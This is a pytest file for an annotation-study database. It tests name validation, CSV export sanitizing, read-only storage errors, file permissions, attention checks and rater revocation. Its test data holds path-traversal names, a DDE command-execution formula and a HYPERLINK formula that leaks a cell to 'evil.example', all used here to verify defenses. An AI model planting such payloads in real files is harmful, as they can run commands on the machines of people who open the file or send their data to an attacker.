"""Issue 12, store side: hostile names and texts, CSV formulas, read-only databases, private
files, attention checks that look like regular items, revoking a rater, closing a study."""

from __future__ import annotations

import csv
import json
import stat

import pytest
from sqlalchemy import event

from annotation_db import (
    AnnotationStore,
    InvalidInputError,
    ItemIn,
    StorageError,
    StudyClosedError,
    UnknownTokenError,
    make_gold_items,
)
from annotation_db.cli import main as cli_main
from annotation_db.io import neutralize_formula, safe_file_stem

QS = ["appropriate", "likert:fluency", "comment"]


def _study(store, adb, name="pilot", n=3, **kw):
    items, outputs = adb.make_items(n)
    kw.setdefault("questions", QS)
    return store.create_study(name, items, outputs, raters_per_item=1, **kw)


# ---------------------------------------------------------------- 3: study names are file names


@pytest.mark.parametrize(
    "name", ["../../x", "/tmp/x", "a/b", "..", ".hidden", "a\\b", "x..y", "tab\tname", "é"]
)
def test_study_names_that_could_leave_a_folder_are_refused(sqlite_store, adb, name):
    with pytest.raises(InvalidInputError, match="study name"):
        _study(sqlite_store, adb, name=name)
    assert sqlite_store.list_studies() == []


def test_safe_study_names_still_work(sqlite_store, adb):
    assert _study(sqlite_store, adb, name="pilot 2.b_c-d").name == "pilot 2.b_c-d"


@pytest.mark.parametrize(
    ("name", "stem"),
    [("../../x", "_._x"), ("/tmp/x", "_tmp_x"), ("..", "study"), ("a b", "a_b"), ("ok-1", "ok-1")],
)
def test_file_stem_has_no_folder_part(name, stem):
    got = safe_file_stem(name)
    assert got == stem and "/" not in got and ".." not in got and not got.startswith(".")


# ---------------------------------------------------------------- 4: CSV formulas


def test_csv_export_neutralizes_formulas_and_jsonl_stays_exact(sqlite_store, adb, tmp_path):
    _study(sqlite_store, adb)
    token = sqlite_store.invite("pilot", "=cmd|' /C calc'!A0").token
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    comments = [evil, "+1 agreed", "-2", "@SUM(A1)", "\tx", "\rx", "plain"]
    for c in comments[:3]:
        item = sqlite_store.next_item(token)
        sqlite_store.submit(token, item.assignment_id, adb.answer_all(item), comment=c)
    csv_path = sqlite_store.export("pilot", "csv", tmp_path / "out.csv")
    with csv_path.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert {r["comment"] for r in rows} == {"'" + c for c in comments[:3]}
    for r in rows:
        for v in r.values():
            assert not v.startswith(("=", "+", "-", "@", "\t", "\r")), v
    jsonl = sqlite_store.export("pilot", "jsonl", tmp_path / "out.jsonl")
    got = {json.loads(line)["comment"] for line in jsonl.read_text("utf-8").splitlines()}
    assert got == set(comments[:3])  # exact
    assert [neutralize_formula(c) for c in comments] == ["'" + c for c in comments[:-1]] + ["plain"]
    assert neutralize_formula(-2) == -2  # numbers are numbers, not formulas


# ---------------------------------------------------------------- 5: read-only databases


def test_read_only_database_file_fails_at_start_with_one_sentence(tmp_path):
    path = tmp_path / "db.sqlite3"
    AnnotationStore(path=path).close()
    with pytest.raises(StorageError, match="cannot be opened for writing") as e:
        AnnotationStore(url=f"sqlite:///file:{path}?mode=ro&uri=true")
    assert "\n" not in str(e.value) and "readonly" in str(e.value)


def test_sqlite_uri_url_makes_no_file_folder_in_the_working_directory(tmp_path, monkeypatch):
    """A ``sqlite:///file:PATH?...&uri=true`` URL names an SQLite URI, not a path: read as a
    path, its folder ``file:PATH``'s parent was made under the working directory."""
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    monkeypatch.chdir(cwd)
    path = tmp_path / "db.sqlite3"
    AnnotationStore(path=path).close()
    with AnnotationStore(url=f"sqlite:///file:{path}?uri=true") as store:
        assert store.sqlite_file == path and store.location == str(path)
    with pytest.raises(StorageError, match="cannot be opened for writing"):
        AnnotationStore(url=f"sqlite:///file:{path}?mode=ro&uri=true")
    assert list(cwd.iterdir()) == []


@pytest.mark.parametrize("where", ["file", "proc"])
def test_database_in_a_folder_that_cannot_be_made_is_one_sentence(tmp_path, where):
    (tmp_path / "a_file").write_text("x")
    path = tmp_path / "a_file" / "db.sqlite3" if where == "file" else "/proc/magnet/x.sqlite3"
    with pytest.raises(StorageError, match="folder exists and is writable"):
        AnnotationStore(path=path)


def test_cli_on_a_read_only_database_prints_one_line(tmp_path, capsys):
    (tmp_path / "a_file").write_text("x")
    code = cli_main(["--db-path", str(tmp_path / "a_file" / "db.sqlite3"), "studies"])
    err = capsys.readouterr().err
    assert code == 2 and err.startswith("error: The database") and err.count("\n") == 1


def test_a_database_that_turns_read_only_raises_storage_error_and_keeps_nothing(sqlite_store, adb):
    _study(sqlite_store, adb)
    token = sqlite_store.invite("pilot", "Ada").token
    item = sqlite_store.next_item(token)
    engine = sqlite_store.db.engine
    engine.dispose()

    @event.listens_for(engine, "connect")
    def _read_only(dbapi_conn, _record):  # noqa: ANN001
        dbapi_conn.execute("PRAGMA query_only=ON")

    with pytest.raises(StorageError, match="nothing was saved"):
        sqlite_store.submit(token, item.assignment_id, adb.answer_all(item))
    event.remove(engine, "connect", _read_only)
    engine.dispose()
    assert sqlite_store.progress("pilot").judgments_done == 0


# ---------------------------------------------------------------- 6: private files


def test_exports_and_backups_are_readable_by_their_owner_only(sqlite_store, adb, tmp_path):
    _study(sqlite_store, adb)
    for fmt in ("csv", "jsonl"):
        out = sqlite_store.export("pilot", fmt, tmp_path / f"x.{fmt}")
        assert stat.S_IMODE(out.stat().st_mode) == 0o600
    b = sqlite_store.backup(tmp_path / "copy.sqlite3")
    assert stat.S_IMODE(b.stat().st_mode) == 0o600
    assert AnnotationStore(path=b).study("pilot").name == "pilot"


# ---------------------------------------------------------------- 8: attention checks


def test_gold_items_show_as_many_outputs_as_regular_items(sqlite_store, adb):
    items, outputs = adb.make_items(4)  # three systems per item
    g_items, g_outs = make_gold_items(adb.make_passages(3), 2, blank="___", n_outputs=3)
    assert all(sum(o.item_key == g.key for o in g_outs) == 3 for g in g_items)
    info = sqlite_store.create_study(
        "s", items + g_items, outputs + g_outs, raters_per_item=1, questions=QS
    )
    assert info.n_gold == 2
    token = sqlite_store.invite("s", "Ada").token
    shown = []
    while (item := sqlite_store.next_item(token)) is not None:
        shown.append(len(item.outputs))
        sqlite_store.submit(token, item.assignment_id, adb.answer_all(item, appropriate=True))
    assert shown == [3] * 6  # every item alike, checks included
    res = sqlite_store.results("s")
    assert res.n_raters_checked == 1 and res.n_raters_failed_attention == 1  # said yes to all


def test_a_gold_item_that_stands_out_is_refused(sqlite_store, adb):
    items, outputs = adb.make_items(3)
    two, two_outs = make_gold_items(adb.make_passages(3), 1, blank="___", n_outputs=2)
    with pytest.raises(InvalidInputError, match="has 2 outputs but every regular item has 3"):
        sqlite_store.create_study("s", items + two, outputs + two_outs)
    reused = [ItemIn(f"x{i}", it.text, ["blank"], source=it.source) for i, it in enumerate(items)]
    g, g_outs = make_gold_items(reused, 1, blank="___", n_outputs=3, donors=adb.make_passages(3))
    with pytest.raises(InvalidInputError, match="passage of a regular item"):
        sqlite_store.create_study("s", items + g, outputs + g_outs)
    assert sqlite_store.list_studies() == []


def test_results_count_raters_who_failed_attention_checks(sqlite_store, adb):
    items, outputs = adb.make_items(2)
    g_items, g_outs = make_gold_items(adb.make_passages(3), 1, blank="___", n_outputs=3)
    sqlite_store.create_study("s", items + g_items, outputs + g_outs, raters_per_item=3)
    careful, careless, idle = sqlite_store.invite_many("s", ["careful", "careless", "idle"])
    roles = {o.text: o.gold_role for o in g_outs}
    for inv, is_careful in ((careful, True), (careless, False)):
        while (item := sqlite_store.next_item(inv.token)) is not None:
            ans = {
                o.label: {"appropriate": roles.get(o.text) != "corrupted" or not is_careful}
                for o in item.outputs
            }
            sqlite_store.submit(inv.token, item.assignment_id, ans)
    res = sqlite_store.results("s")
    assert (res.n_raters_checked, res.n_raters_failed_attention) == (2, 1)
    failed = {a.display_name: a.gold_failed for a in res.attention}
    assert failed == {"careful": 0, "careless": 1, "idle": 0}


# ---------------------------------------------------------------- 9: lone surrogates


def test_lone_surrogates_are_one_sentence_not_a_crash(sqlite_store, adb):
    _study(sqlite_store, adb)
    token = sqlite_store.invite("pilot", "Ada").token
    item = sqlite_store.next_item(token)
    with pytest.raises(InvalidInputError, match="not valid text"):
        sqlite_store.submit(token, item.assignment_id, adb.answer_all(item), comment="ok \ud800")
    with pytest.raises(UnknownTokenError):
        sqlite_store.open_session("tok\udfff")
    with pytest.raises(InvalidInputError, match="not valid text"):
        sqlite_store.invite("pilot", "Bad \udc80 name")
    with pytest.raises(InvalidInputError, match="not valid text"):
        _study(sqlite_store, adb, name="other", instructions="read \ud83d me")
    assert sqlite_store.progress("pilot").judgments_done == 0


# ---------------------------------------------------------------- 10: close, reopen, revoke


def test_revoked_token_stops_working_and_its_open_item_goes_back(sqlite_store, adb):
    _study(sqlite_store, adb, n=2)
    ada, bob = sqlite_store.invite_many("pilot", ["Ada", "Bob"])
    first = sqlite_store.next_item(ada.token)
    sqlite_store.submit(ada.token, first.assignment_id, adb.answer_all(first))
    sqlite_store.next_item(ada.token)  # shown, not answered
    status = sqlite_store.revoke("pilot", ada.rater_id)
    assert status.revoked and status.done == 1 and status.open == 0
    for call in (sqlite_store.open_session, sqlite_store.next_item):
        with pytest.raises(UnknownTokenError):
            call(ada.token)
    got = sqlite_store.next_item(bob.token)  # Ada's unanswered item is free again
    assert got is not None
    rows = {r.display_name: r.revoked for r in sqlite_store.progress("pilot").raters}
    assert rows == {"Ada": True, "Bob": False}
    assert sqlite_store.results("pilot").n_judgments == 1  # Ada's answer is kept
    with pytest.raises(Exception, match="no rater 999"):
        sqlite_store.revoke("pilot", 999)


def test_cli_closes_reopens_and_revokes(sqlite_store, adb, tmp_path, capsys):
    _study(sqlite_store, adb)
    inv = sqlite_store.invite("pilot", "Ada")
    db = ["--db-path", str(tmp_path / "annotations.sqlite3")]
    assert cli_main([*db, "status", "--study", "pilot", "closed"]) == 0
    with pytest.raises(StudyClosedError):
        sqlite_store.next_item(inv.token)
    assert cli_main([*db, "status", "--study", "pilot", "open"]) == 0
    assert sqlite_store.next_item(inv.token) is not None
    assert cli_main([*db, "revoke", "--study", "pilot", str(inv.rater_id)]) == 0
    assert "revoked the token of rater" in capsys.readouterr().out
    with pytest.raises(UnknownTokenError):
        sqlite_store.next_item(inv.token)
    assert cli_main([*db, "revoke", "--study", "pilot", "999"]) == 2
    capsys.readouterr()
    # a new link for the same rater: printed once, it works, and the rater is the same
    assert cli_main([*db, "new-link", "--study", "pilot", str(inv.rater_id)]) == 0
    name, token = capsys.readouterr().out.strip().split("\t")
    assert name == "Ada" and token != inv.token
    assert sqlite_store.next_item(token) is not None
    assert sqlite_store.new_link("pilot", inv.rater_id).rater_id == inv.rater_id
    with pytest.raises(UnknownTokenError):
        sqlite_store.next_item(token)  # replaced again just above
    assert cli_main([*db, "new-link", "--study", "pilot", "999"]) == 2


def test_attention_checks_can_be_at_any_position_but_the_first(sqlite_store, adb):
    """2 checks among 7 items: each rater meets both, never as the first item, at positions
    that differ between raters; every later position holds a check for some rater, so no
    position is certainly a regular item."""
    items, outputs = adb.make_items(5)
    g_items, g_outs = make_gold_items(adb.make_passages(4), 2, blank="___", n_outputs=3)
    sqlite_store.create_study(
        "s", items + g_items, outputs + g_outs, raters_per_item=40, questions=QS
    )
    seen = []
    for inv in sqlite_store.invite_many("s", [f"r{i}" for i in range(40)]):
        checks, position = [], 0
        while (item := sqlite_store.next_item(inv.token)) is not None:
            position += 1
            if item.text.startswith("Passage p"):
                checks.append(position)
            sqlite_store.submit(inv.token, item.assignment_id, adb.answer_all(item))
        assert position == 7 and len(checks) == 2
        seen.append(tuple(checks))
    assert all(first > 1 for first, _ in seen), seen
    assert {p for pair in seen for p in pair} == set(range(2, 8)), seen
    assert len(set(seen)) > 5
